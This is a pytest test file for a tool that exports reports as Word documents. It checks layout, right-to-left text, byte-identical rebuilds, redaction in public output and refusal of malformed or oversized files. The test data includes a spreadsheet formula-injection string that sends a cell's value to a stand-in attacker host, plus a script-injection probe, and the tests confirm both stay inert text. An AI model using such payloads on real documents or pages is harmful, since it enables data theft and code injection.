"""Reports as Word documents: real headings, tables and pictures, the same bytes each time."""

import zipfile
from collections.abc import Iterator
from pathlib import Path

import pytest
from docx import Document
from docx.oxml.ns import qn
from lxml import etree
from support.facts.given import TIKTOK, complete, fact
from support.programs.running import lines, ok, run
from support.reading.report_samples import ARABIC, ENGLISH, drawn, facts, grid, statement
from support.servers.databases import SQLiteDatabases

from reports.errors import InvalidStatement
from reports.formats.docx import file
from reports.formats.docx.elements import W
from reports.model import (
    Chart,
    KeyFigure,
    KeyFigures,
    Layout,
    Paragraph,
    Report,
    Section,
    Terms,
    Tone,
    Word,
    Words,
)
from reports.words.language import LANGUAGES, Language

KZ = ("TikTok", "Kazakhstan")
AT = ("--at", "2024-05-01")
QUOTE = "Words that must not be passed on."


@pytest.fixture(scope="module")
def url(sqlite_databases: SQLiteDatabases) -> Iterator[str]:
    with sqlite_databases.migrated() as url:
        quoted = {"title": "A", "url": "https://example.org/a", "quote": QUOTE}
        told = (
            fact("local-office-pledged", "2019-07-15", due="2019-12-31"),
            fact("removal-reported", "2020-03-01", count=20, unit="videos", period="2019"),
            fact("local-office-opened", "2023-07-01"),
        )
        whole = [complete({**one, "sources": [quoted]}, at) for at, one in enumerate(told, 1)]
        ok("import", "-", database=url, stdin=lines(TIKTOK, *whole))
        yield url


def made_by_hand(said: Language) -> Report:
    """A report with a block of every kind, and with texts that mean harm."""
    late = Word("late", "late", Tone.WARN, "!")
    blocks = (
        Paragraph(("A day has passed.",), Tone.PASSED),
        Words((late,)),
        KeyFigures((KeyFigure(("3 of 5",), "duties met"), KeyFigure(("2",), "late", Tone.WARN))),
        Terms(((("a term",), ("its meaning",)),)),
        Chart("life", "A life", "It began, and ended.", drawn),
        facts(said),
        grid(said),
    )
    section = Section("part", "The part", blocks)
    return Report(statement(said.code), ("TikTok",), (), (section,), "facts")


def document_of(path: Path) -> etree._Element:
    """The body of a document, read as a program reads it that trusts nobody."""
    with zipfile.ZipFile(path) as parts:
        return etree.fromstring(parts.read("word/document.xml"))


@pytest.mark.parametrize("said", [ENGLISH, ARABIC])
def test_every_block_has_its_place_and_hostile_texts_stay_texts(
    said: Language, tmp_path: Path
) -> None:
    file.write(made_by_hand(said), said, tmp_path / "one.docx", table=None)
    document = Document(str(tmp_path / "one.docx"))
    styles = [one.style.name for one in document.paragraphs if one.style is not None]
    assert {"Title", "Heading 1", "Heading 2", "Heading 3"} <= set(styles)
    text = "\n".join(one.text for one in document.paragraphs)
    assert "A day has passed." in text
    cells = [cell.text for row in document.tables[0].rows for cell in row.cells]
    assert cells == ["3 of 5\nduties met", "2\nlate"]
    assert '=HYPERLINK("http://evil.example/?"&A1,"open")' in text
    assert "<script>alert(1)</script>" in text
    assert len(document.inline_shapes) == 1
    assert document.inline_shapes[0]._inline.docPr.get("descr") == "It began, and ended."
    body = document_of(tmp_path / "one.docx")
    assert body.findall(f".//{{{W}}}fldSimple") == body.findall(f".//{{{W}}}instrText") == []
    targets = [one.target_ref for one in document.part.rels.values() if one.is_external]
    assert all(one.startswith(("http://", "https://")) for one in targets)


def test_heads_of_tables_come_again_and_rows_are_not_cut(tmp_path: Path) -> None:
    file.write(made_by_hand(ENGLISH), ENGLISH, tmp_path / "one.docx", table=None)
    body = document_of(tmp_path / "one.docx")
    rows = body.findall(f".//{{{W}}}tr")
    assert rows
    assert all(row.find(f".//{{{W}}}cantSplit") is not None for row in rows)
    heads = [row for row in rows if row.find(f".//{{{W}}}tblHeader") is not None]
    assert len(heads) == sum(made.layout is Layout.GRID for made in (grid(ENGLISH),))


def test_arabic_runs_from_right_to_left(tmp_path: Path) -> None:
    file.write(made_by_hand(ARABIC), ARABIC, tmp_path / "one.docx", table=None)
    body = document_of(tmp_path / "one.docx")
    told = [one for one in body.iter(f"{{{W}}}p") if one.find(f".//{{{W}}}drawing") is None]
    assert all(one.find(f"{{{W}}}pPr/{{{W}}}bidi") is not None for one in told)
    assert all(one.find(f"{{{W}}}bidiVisual") is not None for one in body.iter(f"{{{W}}}tblPr"))


def test_a_reference_leads_to_the_place_of_its_fact(tmp_path: Path) -> None:
    file.write(made_by_hand(ENGLISH), ENGLISH, tmp_path / "one.docx", table=None)
    body = document_of(tmp_path / "one.docx")
    names = [one.get(qn("w:name")) for one in body.iter(qn("w:bookmarkStart"))]
    led = {one.get(qn("w:anchor")) for one in body.iter(qn("w:hyperlink"))} - {None}
    assert led <= set(names)
    assert all(len(one) <= 40 for one in names)


@pytest.mark.parametrize("kind", [("dossier", *KZ), ("changes", "--from", "2019-01-01")])
@pytest.mark.parametrize("code", LANGUAGES)
def test_a_docx_made_again_is_the_same_to_the_byte(
    url: str, tmp_path: Path, kind: tuple[str, ...], code: str
) -> None:
    out = tmp_path / "one.docx"
    ok("report", *kind, *AT, "--language", code, "--out", str(out), database=url)
    assert ok("report", "--again", str(out), database=url).out.endswith("the same to the byte.\n")
    with zipfile.ZipFile(out) as parts:
        assert {one.date_time for one in parts.infolist()} == {(1980, 1, 1, 0, 0, 0)}
        assert len(parts.namelist()) == len(set(parts.namelist()))


def test_a_docx_for_outsiders_is_as_strict_as_the_other_formats(url: str, tmp_path: Path) -> None:
    for public, there in (((), True), (("--public",), False)):
        out = tmp_path / "one.docx"
        ok("report", "dossier", *KZ, *AT, *public, "--out", str(out), database=url)
        with zipfile.ZipFile(out) as parts:
            whole = b"".join(map(parts.read, parts.namelist())).decode("utf-8", "ignore")
        assert (QUOTE in whole) is there
        assert file.stated(out).public is not there


@pytest.mark.parametrize("content", [b"", b"PK\x03\x04", b"plain"])
def test_what_is_no_docx_of_a_report_is_refused(tmp_path: Path, content: bytes) -> None:
    (tmp_path / "one.docx").write_bytes(content)
    with pytest.raises(InvalidStatement, match=r"^one\.docx: "):
        file.stated(tmp_path / "one.docx")


def test_a_docx_of_another_program_and_one_that_swells_are_refused(
    url: str, tmp_path: Path
) -> None:
    Document().save(str(tmp_path / "other.docx"))
    with zipfile.ZipFile(tmp_path / "large.docx", "w", zipfile.ZIP_DEFLATED) as large:
        large.writestr(file.PART, b" " * 50_000_000)
    for name in ("other", "large"):
        refused = run("report", "--again", str(tmp_path / f"{name}.docx"), database=url)
        assert refused.status == 2
        assert f"{name}.docx" in refused.err
